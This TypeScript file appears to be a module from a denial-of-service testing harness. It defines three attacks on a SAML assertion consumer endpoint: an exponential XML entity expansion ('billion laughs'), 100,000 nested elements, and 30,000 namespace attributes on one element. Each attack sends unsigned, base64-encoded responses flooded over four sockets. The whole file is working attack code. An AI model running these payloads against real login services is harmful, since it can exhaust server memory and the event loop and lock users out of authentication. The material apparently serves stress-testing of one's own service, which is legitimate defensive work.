/** SAML responses that are expensive to parse. Attackers need no signature to send them. */
import type { Attack, AttackContext } from '../../attacker/attack.ts';
import { flood } from '../../attacker/http.ts';

const BODY_BYTES = 700_000;

/** Sends entities that expand to billions of characters. */
export const samlEntities: Attack = {
  name: 'auth/saml-entities',
  description: 'SAML responses whose entities expand to 10 billion characters, 4 at once',
  cost: 'event loop and memory: expanding entities',
  run: (context) => {
    const names = Array.from({ length: 10 }, (_, level) => `e${level}`);
    const entities = names.map((name, level) => {
      const value = level === 0 ? 'x'.repeat(10) : `&${names[level - 1]};`.repeat(10);
      return `<!ENTITY ${name} "${value}">`;
    });
    return postResponses(context, `<!DOCTYPE r [${entities.join('')}]>${response('&e9;')}`);
  },
};

/** Sends deeply nested elements. */
export const samlDepth: Attack = {
  name: 'auth/saml-depth',
  description: 'SAML responses of 700 KB with 100,000 nested elements, 4 at once',
  cost: 'event loop or stack: parsing nested elements',
  run: (context) => {
    const depth = BODY_BYTES / 7;
    return postResponses(context, response('<a>'.repeat(depth) + '</a>'.repeat(depth)));
  },
};

/** Sends attributes with distinct namespaces. */
export const samlAttributes: Attack = {
  name: 'auth/saml-attributes',
  description: 'SAML responses of 700 KB with 30,000 attributes and namespaces on one element, 4 at once',
  cost: 'event loop: comparing attributes with each other',
  run: (context) => {
    const attributes: string[] = [];
    for (let index = 0; index < 30_000; index += 1) attributes.push(`xmlns:n${index}="u" b${index}=""`);
    return postResponses(context, response(`<a ${attributes.join(' ').slice(0, BODY_BYTES)}"/>`));
  },
};

function response(content: string): string {
  return `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="r" Version="2.0">${content}</samlp:Response>`;
}

function postResponses(context: AttackContext, xml: string): Promise<void> {
  const body = new URLSearchParams({ SAMLResponse: Buffer.from(xml).toString('base64') }).toString();
  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
  return flood(context, {
    sockets: 4,
    request: () => ({ path: '/auth/v1/sso/saml/acs', headers, body }),
    labelOf: ({ status, headers: { location = '' } }) =>
      `${status} ${/error_code=([a-z_]+)/.exec(location)?.[1] ?? ''}`.trim(),
  });
}
